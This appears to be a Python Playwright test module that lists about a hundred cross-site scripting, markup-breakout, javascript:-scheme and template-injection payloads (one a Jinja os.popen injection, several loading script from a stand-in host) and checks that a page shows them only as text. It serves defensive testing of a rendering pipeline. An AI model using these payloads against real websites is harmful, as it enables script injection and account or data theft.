"""A hundred texts that want to be more than text, and an eye on Chromium for anything that runs.

A test puts each payload where an agent can write and looks with `Watched`:

    with watched(tab.page) as seen:
        …  # let the page show it
    assert seen == []

Every payload carries `MARK` in what it would run, so that a test can also assert that it is shown, as text.
"""

from __future__ import annotations

from collections.abc import Iterator
from contextlib import contextmanager

from playwright.sync_api import Dialog, Frame, Page, Request

MARK = "hostile_ran"
RUN = f"window.{MARK}=1"
ELSEWHERE = "http://hostile.invalid"

_EVENTS = (
    "onload", "onerror", "onclick", "onfocus", "onmouseover", "ontoggle", "onbegin", "onanimationstart",
    "onpointerenter", "oncopy", "onscroll", "onbeforetoggle",
)  # fmt: skip
_TAGS = ("img src=x", "svg", "body", "iframe", "video", "input autofocus", "details open", "marquee", "object data=x")
_SCHEMES = ("javascript:", "JaVaScRiPt:", "java\tscript:", "\x01javascript:", "data:text/html,", "vbscript:", "blob:")

PAYLOADS: tuple[str, ...] = (
    # Elements that run by being there.
    f"<script>{RUN}</script>",
    f"<SCRIPT>{RUN}</SCRIPT >",
    f"<script/x>{RUN}</script>",
    f"<script type=module>{RUN}</script>",
    f"<script src={ELSEWHERE}/{MARK}.js></script>",
    f"<script src=data:text/javascript,{RUN}></script>",
    f"<script>//<!--\n{RUN}\n//--></script>",
    f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    f"<svg><script>{RUN}</script></svg>",
    f"<svg><script href=data:,{RUN} />",
    f"<svg><use href=\"data:image/svg+xml,<svg id='x' onload='{RUN}'/>#x\"/></svg>",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
    f"<svg><foreignObject><img src=x onerror={RUN}></foreignObject></svg>",
    f"<svg><style><img src=x onerror={RUN}></style></svg>",
    f"<math><mtext><table><mglyph><style><img src=x onerror={RUN}>",
    f"<math href=javascript:{RUN}>x</math>",
    f"<iframe srcdoc='<script>parent.{MARK}=1</script>'></iframe>",
    f"<iframe src=javascript:parent.{MARK}=1></iframe>",
    f"<object data='data:text/html,<script>parent.{MARK}=1</script>'></object>",
    f"<embed src={ELSEWHERE}/{MARK}>",
    f"<meta http-equiv=refresh content='0;url={ELSEWHERE}/{MARK}'>",
    f"<meta http-equiv=refresh content='0;url=javascript:{RUN}'>",
    f"<meta http-equiv=Content-Security-Policy content=\"script-src 'unsafe-inline'\"><script>{RUN}</script>",
    f"<base href={ELSEWHERE}/{MARK}/>",
    f"<link rel=stylesheet href={ELSEWHERE}/{MARK}.css>",
    f"<link rel=prefetch href={ELSEWHERE}/{MARK}>",
    f"<link rel=modulepreload href={ELSEWHERE}/{MARK}.js>",
    f"<style>@import '{ELSEWHERE}/{MARK}.css';</style>",
    f"<style>*{{background:url({ELSEWHERE}/{MARK})}}</style>",
    f"<img src={ELSEWHERE}/{MARK}.png>",
    f"<img srcset={ELSEWHERE}/{MARK}.png>",
    f"<video poster={ELSEWHERE}/{MARK}.png>",
    f"<audio src={ELSEWHERE}/{MARK}.ogg autoplay>",
    f"<form action={ELSEWHERE}/{MARK}><button autofocus onfocus={RUN}>press</button></form>",
    f"<form data-act action=/freeze method=post><button>{MARK}</button></form>",
    f"<template><script>{RUN}</script></template>",
    f"<template shadowrootmode=open><script>{RUN}</script></template>",
    f"<noscript><p title='</noscript><img src=x onerror={RUN}>'>",
    f"<xmp><p title='</xmp><img src=x onerror={RUN}>'>",
    f"<listing>&lt;img src=x onerror={RUN}&gt;</listing>",
    f"<plaintext>{MARK}",
    f"<!--><img src=x onerror={RUN}>-->",
    f"<![CDATA[><img src=x onerror={RUN}>]]>",
    f"<?xml-stylesheet href='javascript:{RUN}'?>",
    # Attributes that run, on elements that are let through by some.
    *(f"<{_TAGS[number % len(_TAGS)]} {event}={RUN}>" for number, event in enumerate(_EVENTS)),
    f"<a href=x id=page {MARK}>",
    f"<div data-section=swarm id=swarm>{MARK}</div>",
    f"<p style='background:url({ELSEWHERE}/{MARK})'>",
    f"<p style='position:fixed;inset:0;z-index:9999'>{MARK}</p>",
    f"<button popovertarget=x onbeforetoggle={RUN}>",
    f"<x contenteditable onblur={RUN} tabindex=0 autofocus>",
    # What ends an attribute, a tag, a comment, a script, a text area, a title around it.
    f'"><img src=x onerror={RUN}>',
    f"'><img src=x onerror={RUN}>",
    f"`><img src=x onerror={RUN}>",
    f'" onmouseover={RUN} x="',
    f"' autofocus onfocus={RUN} x='",
    f" onpointerenter={RUN} ",
    f"--><script>{RUN}</script><!--",
    f"--!><script>{RUN}</script>",
    f"</textarea><script>{RUN}</script>",
    f"</title><script>{RUN}</script>",
    f"</style><script>{RUN}</script>",
    f"</script><script>{RUN}</script>",
    f"</template><script>{RUN}</script>",
    f"</pre></code></details><script>{RUN}</script>",
    f"]]><script>{RUN}</script>",
    # Addresses that run.
    *(f"[{MARK}]({scheme}{RUN})" for scheme in _SCHEMES),
    f"![x](javascript:{RUN})",
    f"![x]({ELSEWHERE}/{MARK}.png)",
    f"<javascript:{RUN}>",
    f"[x]: javascript:{RUN} '{MARK}'",
    f'[x](<javascript:{RUN}> "t")',
    f'[x](https://x"onmouseover={RUN} y)',
    f'<https://x/"onmouseover={RUN}//>',
    f"```html\n<script>{RUN}</script>\n```",
    f"    <script>{RUN}</script>",
    f"| a |\n|---|\n| <img src=x onerror={RUN}> |",
    # Templates and scripts of other kinds.
    f"{{{{ {MARK} }}}}",
    f"{{{{ cycler.__init__.__globals__.os.popen('{MARK}') }}}}",
    f"{{% raw %}}{MARK}{{% endraw %}}",
    f"${{{RUN}}}",
    f"<%= {MARK} %>",
    f"#{{{RUN}}}",
    # Characters that mean something else on the way.
    f"\u202e<script>{RUN}</script>",
    f"\ufeff<script>{RUN}</script>",
    f"\x00<script>{RUN}</script>".replace("\x00", "\u2400"),
    f"\uff1cscript\uff1e{RUN}\uff1c/script\uff1e",
    f"&lt;script&gt;{RUN}&lt;/script&gt;",
    f"&#60;script&#62;{RUN}&#60;/script&#62;",
    f"\\u003cscript\\u003e{RUN}\\u003c/script\\u003e",
    f"%3Cscript%3E{RUN}%3C/script%3E",
    f"+ADw-script+AD4-{RUN}+ADw-/script+AD4-",
    f"\x1b]8;;javascript:{RUN}\x07{MARK}\x1b]8;;\x07",
    f'id: 1\ndata: {{"position":1,"touches":["{MARK}"]}}\n\n',
    f"\r\n\r\n<script>{RUN}</script>",
)  # fmt: skip
"""A hundred and some. One that is not shown by a page for its kind (a name has no `<`) is refused before."""

_WATCH = f"""
window.__reports = [];
addEventListener("securitypolicyviolation", (event) =>
  window.__reports.push(`csp: ${{event.effectiveDirective}} ${{event.blockedURI}} ${{event.sample}}`));
Object.defineProperty(window, {MARK!r}, {{
  configurable: false, get: () => undefined, set: () => window.__reports.push("ran"),
}});
"""


def watch(page: Page) -> None:
    """Let a page note what runs or is refused; call it before the page is opened."""
    page.add_init_script(_WATCH)


@contextmanager
def watched(page: Page) -> Iterator[list[str]]:
    """Collect, for the length of a block, whatever shows that a text was more than text; `watch` came before."""
    seen: list[str] = []

    def on_dialog(dialog: Dialog) -> None:
        seen.append(f"dialog: {dialog.message}")
        dialog.dismiss()

    def on_request(request: Request) -> None:
        if "hostile" in request.url:
            seen.append(f"request: {request.url}")

    def on_navigation(frame: Frame) -> None:
        if not frame.url.startswith(("http", "about:")):
            seen.append(f"went: {frame.url}")

    page.on("dialog", on_dialog)
    page.on("request", on_request)
    page.on("framenavigated", on_navigation)
    page.on("pageerror", lambda error: seen.append(f"error: {error}"))
    yield seen
    seen += page.evaluate("window.__reports ?? ['not watched']")
    frames = [frame.url for frame in page.frames[1:]]
    seen += [f"frame: {url}" for url in frames]
    seen += [f"script: {each}" for each in page.evaluate(_FOREIGN)]


_FOREIGN = """
[...document.querySelectorAll("script, iframe, object, embed, base, meta[http-equiv], link")]
  .filter((element) => !(element.tagName === "LINK" && element.href.startsWith(`${location.origin}/static/`)))
  .filter((element) => !(element.tagName === "SCRIPT" && element.src.startsWith(`${location.origin}/static/`)))
  .map((element) => element.outerHTML)
  .concat([...document.querySelectorAll("*")]
    .filter((element) => [...element.attributes].some((attribute) => attribute.name.startsWith("on")))
    .map((element) => element.outerHTML.slice(0, 200)))
"""
"""Elements that no template of ours writes, and any attribute that could run."""
